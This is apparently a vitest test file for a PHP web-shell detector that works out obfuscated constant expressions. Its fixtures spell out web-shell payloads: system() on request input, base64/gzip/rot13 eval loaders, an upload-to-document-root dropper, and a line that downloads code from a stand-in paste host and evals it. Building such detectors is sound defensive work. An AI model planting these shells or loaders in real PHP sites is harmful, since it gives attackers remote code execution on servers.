/**
 * Obfuscated PHP loaders judged by what they decode and run (issue 27): constant
 * expressions (chr(), XOR, concatenation, hex escapes, decoders, a variable set once) worked
 * out, layer after layer, within bounds an attacker cannot stretch.
 */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { foldPhpConstants } from '../../src/findings/web-shell/php-constants.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const judge = (text: string) =>
  judgeWebShell(
    addedFile('/opt/x.php', text, { current: fileMeta({ sizeBytes: text.length }) }),
    false,
  );
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
const RUN_INPUT = "system($_GET['c']);";

describe('PHP constant expressions', () => {
  it('works out chr(), XOR, concatenation and hex escapes', () => {
    expect(foldPhpConstants(`<?php $f = "as"."se"."rt"; $g = "\\x73ystem"; ?>`)).toBe(
      `<?php $f = 'assert'; $g = 'system'; ?>`,
    );
    expect(foldPhpConstants('<?php ${(chr(63)^chr(96)).(chr(60)^chr(123))}; ?>')).toBe(
      '<?php $_G; ?>',
    );
  });

  it('leaves strings that hide nothing as they are', () => {
    const text = `<?php echo "a\\n", 'it\\'s', "hi $name", sprintf('%s', $x); ?>`;
    expect(foldPhpConstants(text)).toBe(text);
  });

  it.each([
    [
      'gzinflate(base64_decode()) of a variable set once',
      `<?php $a = '${b64(deflateRawSync(RUN_INPUT))}'; eval(gzinflate(base64_decode($a))); ?>`,
    ],
    [
      'two layers of base64',
      `<?php eval(base64_decode('${b64(`eval(base64_decode('${b64(RUN_INPUT)}'));`)}')); ?>`,
    ],
    [
      'str_rot13 of strrev',
      `<?php eval(str_rot13(strrev('${[...RUN_INPUT.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < 'a' ? 65 : 97)))].reverse().join('').replace(/'/g, "\\'")}'))); ?>`,
    ],
    ['a gzip member', `<?php eval(gzdecode(base64_decode('${b64(gzipSync(RUN_INPUT))}'))); ?>`],
  ])('judges the code a loader decodes: %s', (_, text) => {
    expect(judge(text)?.severity).toBe('critical');
  });

  it('finds the request run by code decoded into a variable, then evaluated', () => {
    const text = `<?php $a = '${b64(deflateRawSync(RUN_INPUT))}'; $b = gzinflate(base64_decode($a)); eval($b); ?>`;
    expect(judge(text)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/system\(\) on request input.*worked out/),
    });
  });

  it('reads a string called as the function it names, as PHP 7 does', () => {
    expect(foldPhpConstants(`<?php 'sy'.'stem'($c); "assert"($x); ?>`)).toBe(
      '<?php system($c); assert($x); ?>',
    );
    expect(judge(`<?php ${"'sy'.'stem'"}($_GET['c']); ?>`)?.severity).toBe('critical');
    // A string that is an argument, an index or a key is no call.
    const text = `<?php in_array('system', $list); $a['exec']($x); $o->f('passthru') ; ?>`;
    expect(foldPhpConstants(text)).toBe(text);
  });

  it('names the variables an obfuscator reaches through a table in $GLOBALS', () => {
    const upload = [
      '<?php ${"GL\\x4fBALS"}["qzt"]="\\x6eame"; ${"GLOBALS"}["wkr"]="to";',
      '${${"GLOBALS"}["qzt"]}=$_FILES["f"]["name"];',
      '${${"GLOBALS"}["wkr"]}=$_SERVER["DOCUMENT_ROOT"]."/".${${"GLOBALS"}["qzt"]};',
      'if(@copy($_FILES["f"]["tmp_name"],${${"GLOBALS"}["wkr"]})){echo "ok";}',
    ].join('');
    expect(foldPhpConstants(upload)).toContain(
      `$to=$_SERVER["DOCUMENT_ROOT"]."/".$name;if(@copy($_FILES["f"]["tmp_name"],$to))`,
    );
    expect(judge(upload)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
    });
    // A key set to two names holds either, depending on the run: left as written.
    const twice = `<?php $GLOBALS['k'] = 'a'; $GLOBALS['k'] = 'b'; echo \${$GLOBALS['k']}; ?>`;
    expect(foldPhpConstants(twice)).toBe(twice);
  });

  it('replaces without regard to case, and reads a variable variable set once', () => {
    expect(foldPhpConstants(`<?php f(str_ireplace('XX', 'st', 'syXXem'));`)).toContain(
      `f('system')`,
    );
    // `$$c` is `$a` when $c holds "a": a call through it reads as the function $a names.
    const fetched = `<?php $a = str_ireplace("zz", "et_contents", "file_gZZ"); $c = "a"; $b = $$c('https://paste.example.test/raw/x'); eval($b);`;
    expect(foldPhpConstants(fetched)).toContain(`$b = file_get_contents('https://`);
    expect(judge(fetched)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runs code it downloads/),
    });
    // A variable variable whose name is set twice, or indexed, is left as written.
    const twice = `<?php $c = "a"; $c = "b"; echo $$c; echo $$d[0];`;
    expect(foldPhpConstants(twice)).toBe(twice);
  });

  it('reads a name cleaned out of junk by a constant pattern, and no pattern it cannot read', () => {
    expect(
      foldPhpConstants(`<?php $a = preg_filter('/\\s+/', '', 'base 64 _ deco de');`),
    ).toContain(`$a = 'base64_decode'`);
    expect(foldPhpConstants(`<?php f(preg_replace("#[^a-z_]#", "", "s#y%s@t!e*m"));`)).toContain(
      `f('system')`,
    );
    const loader = `<?php function t($code){ $a = preg_filter('/\\s+/', '', 'base 64 _ deco de'); $c = $a($code); @eval($c); } t('');`;
    expect(judge(loader)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/eval\(\) on decoded data/),
    });
    // Patterns PCRE and JavaScript read apart, or that could backtrack long, are left as
    // written: a look-behind, a back-reference, nested and lazy repetition, POSIX classes, a
    // replacement that refers to a group, and preg_filter() with nothing to replace.
    for (const call of [
      `preg_replace('/(?<=a)b/', '', 'ab')`,
      `preg_replace('/(a)\\1/', '', 'aa')`,
      `preg_replace('/(a+)+$/', '', 'aaaa')`,
      `preg_replace('/a+?/', '', 'aaa')`,
      `preg_replace('/[[:space:]]/', '', 'a b')`,
      `preg_replace('/(a)/', '$1$1', 'a')`,
      `preg_filter('/x/', '', 'abc')`,
    ]) {
      const text = `<?php f(${call});`;
      expect(foldPhpConstants(text)).toBe(text);
    }
  });

  it('reads the decoder a packed loader names after thousands of appends, and no value it skipped', () => {
    // A 400 KiB loader's end: its payload built in appends, then its decoder's name in pieces.
    const appends = '$z .= "QUJD";\n'.repeat(4000);
    const loader = `<?php\n$z = "";\n${appends}$a = "base"; $b = "64_decode"; $c = $a.$b; $s = $c($z); eval($s);\n?>`;
    expect(judge(loader)).toMatchObject({
      severity: 'critical',
      reason: expect.stringContaining('eval() on decoded data'),
    });
    // The appends in the middle are not read: what $z holds is not claimed.
    expect(foldPhpConstants(`<?php\n$z = "";\n${appends}echo $z; ?>`)).toMatch(/echo \$z; \?>$/);
  });

  it('stays bounded on hostile input: deep nesting, a decompression bomb, many pieces', () => {
    const deep = `<?php $x = ${'('.repeat(5000)}'a'${')'.repeat(5000)}; ?>`;
    const bomb = `<?php eval(gzinflate(base64_decode('${b64(deflateRawSync(Buffer.alloc(50 * 1024 * 1024)))}'))); ?>`;
    const pieces = `<?php $x = ${Array(20000).fill("'a'").join('.')}; ?>`;
    for (const text of [deep, bomb, pieces])
      expect(foldPhpConstants(text).length).toBeLessThan(300 * 1024);
    // The timeout guards against a run without end; it is no speed goal (bench/fuzz-rules.ts
    // measures speed): bounded, this takes well under a second.
  }, 30_000);
});
